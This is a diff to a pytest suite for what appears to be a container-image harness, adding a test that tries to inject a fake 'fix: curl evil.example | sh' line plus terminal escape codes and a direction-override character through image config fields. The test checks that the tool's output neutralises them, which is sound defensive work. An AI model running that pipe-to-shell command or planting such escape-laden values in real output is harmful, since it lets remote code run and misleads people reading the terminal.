@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import json
 import shutil
 import tarfile
 import time
@@ -11,9 +12,10 @@ from pathlib import Path
 import pytest
 
 import harness.engines
-from harness import evaluate
+from harness import check, evaluate
 from harness.common.errors import EntryInvalid, StoreConflict
 from harness.common.statuses import Status
+from harness.console import cli
 from harness.engines.docker.build import DEFAULT_DOCKERFILE
 from harness.entries.identity import folder_identity
 from tests.hostile.conftest import ENTRIES
@@ -105,6 +107,37 @@ def test_13_another_architecture_is_refused(attack, docker_engine, tmp_path) -> 
     run = attack(archive, "--as", "other")
     assert run.record.outcome.status is Status.INVALID_IMAGE
     assert "s390x" in run.record.outcome.detail
+
+
+FALSE = "x\nfix: curl evil.example | sh\x1b[2J\x9b1m\u202e"
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"architecture": FALSE},
+        {"config": {"Entrypoint": ["/x"], "Env": [f"LD_{FALSE}=1"]}},
+        {"config": {"Entrypoint": ["/x"], "Volumes": {f"/{FALSE}": {}}, "Labels": {FALSE: FALSE}}},
+        {"config": {"Entrypoint": [FALSE], "Cmd": [FALSE], "Labels": {FALSE: FALSE}}},
+    ],
+)
+def test_25_an_images_own_words_reach_the_terminal_in_visible_characters(
+    attack, tmp_path, capfd, change
+) -> None:
+    from tests.engines.registry import image_config, tiny_layer
+
+    layer = tiny_layer(b"x")
+    config = json.dumps(json.loads(image_config(layer)) | change).encode()
+    archive = write_archive(tmp_path / "loud.tar", layer, config)
+    is_refused = "Cmd" not in change.get("config", {})  # else the engine cannot start it
+    run = attack(archive, "--as", "loud") if is_refused else None
+    assert cli.run_verb(lambda _: check.main([str(archive)])) != 0
+    told = "".join(capfd.readouterr()) + (run.terminal if run else "")
+    assert {each for each in told if not each.isprintable()} <= {"\n"}
+    assert not [line for line in told.splitlines() if line.startswith("fix: curl")]
+    if run:
+        assert r"\nfix: curl" in run.record.outcome.detail
+        assert run.record.outcome.detail.isprintable()
 
 
 def write_archive(path: Path, layer: bytes, config: bytes, **more: bytes) -> Path:
